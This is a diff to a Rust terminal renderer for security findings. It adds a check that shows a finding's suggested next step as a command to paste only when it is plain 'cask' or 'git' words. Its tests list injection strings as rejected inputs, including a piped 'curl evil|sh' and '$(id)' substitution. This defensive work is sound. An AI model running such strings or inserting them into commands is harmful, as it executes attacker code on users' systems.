@@ -4,6 +4,7 @@
 //! The report may be a file that anybody wrote: every text of it goes through the pens of the terminal, and only
 //! what the catalogue says of the rule is ours.
 
+use super::escape::paste::paste;
 use super::escape::terminal::{Mark, Paint};
 use super::patch::{self, Line, Sign};
 use super::screen::Screen;
@@ -62,12 +63,21 @@ pub fn terminal(finding: &Node, who: &[String], style: &Style) -> String {
     approval(&mut page, finding, who);
     place(&mut page, finding);
     let step = word("next");
-    match step.split(' ').next() {
-        Some("cask" | "git") => page.command("  do", TEXT, &step),
-        _ => row(&mut page, "do", &step),
+    match is_command(&step) {
+        true => page.command("  do", TEXT, &step),
+        false => row(&mut page, "do", &step),
     }
     row(&mut page, "finding", &word("fingerprint"));
     page.done()
+}
+
+/// Whether a text is a command of ours or of git, of which no shell gives any word a meaning.
+fn is_command(text: &str) -> bool {
+    let plain = |word: &str| {
+        let name = word.strip_prefix("--").unwrap_or(word);
+        matches!(word, "--" | ".") || paste(name).is_some()
+    };
+    text.split(' ').all(plain) && matches!(text.split(' ').next(), Some("cask" | "git"))
 }
 
 /// What differs, as signed lines.
@@ -162,4 +172,31 @@ fn items(list: Option<&Node>) -> impl Iterator<Item = &str> {
 
 fn list(list: Option<&Node>, paint: Paint) -> String {
     items(list).take(REASONS).map(|item| paint.text(item, 80)).collect::<Vec<_>>().join(", ")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn only_plain_words_are_a_command_to_paste() {
+        for text in [
+            "cask gate allow a_b --toolpack packs/shop",
+            "cask trust sign --gate",
+            "git checkout main -- a/b",
+        ] {
+            assert!(is_command(text), "{text}");
+        }
+        for text in [
+            "git push x; curl evil|sh",
+            "cask $(id)",
+            "cask a\nb",
+            "curl evil",
+            "cask explain `id`",
+            "",
+            "cask  a",
+        ] {
+            assert!(!is_command(text), "{text}");
+        }
+    }
 }
